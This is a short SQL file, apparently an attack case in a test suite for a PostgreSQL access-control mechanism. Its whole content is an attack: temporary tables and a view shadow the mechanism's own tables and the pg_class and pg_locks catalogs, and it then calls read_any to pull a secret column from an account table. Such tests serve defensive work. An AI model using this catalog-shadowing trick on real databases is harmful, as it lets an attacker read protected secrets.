-- Hides the witness's tables and PostgreSQL's catalogs behind temporary ones.
-- wants: read
-- attack:
CREATE TEMP TABLE pin (relation oid, product int);
CREATE TEMP TABLE element (product int, in_schema text, in_name text);
CREATE TEMP TABLE pg_class (oid oid, relname name);
CREATE TEMP VIEW pg_locks AS SELECT NULL::oid AS relation, 0 AS pid, 'x' AS locktype, 'x' AS mode;
SELECT read_any('SELECT secret FROM public.vlt_account');
